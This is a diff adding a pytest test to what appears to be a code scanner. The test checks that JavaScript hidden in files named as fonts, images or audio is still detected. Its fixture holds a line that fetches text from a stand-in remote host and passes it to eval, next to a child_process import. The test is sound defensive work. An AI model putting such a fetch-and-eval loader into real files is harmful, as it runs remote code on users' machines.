@@ -48,6 +48,15 @@ def test_a_file_is_read_as_what_it_is(path: str, text: str, context: Context) ->
     assert context in _contexts(path, text)
 
 
+@pytest.mark.parametrize("ending", ["woff2", "png", "mp3", "dat"])
+def test_code_below_the_name_of_a_picture_or_a_font_is_parsed_as_code(ending: str) -> None:
+    code = (
+        "const cp = require('child_process');\nfetch('https://c.example.invalid/').then((r) => r.text()).then(eval);\n"
+    )
+    found = {finding.rule: finding.engine for finding in audited({f"assets/a.{ending}": code}).findings}
+    assert "javascript" in found.values()
+
+
 def test_a_file_of_two_languages_is_read_as_both() -> None:
     assert {Context.PYTHON, Context.SHELL} <= _contexts("a.py", "#!/bin/sh\necho hi\n")
 
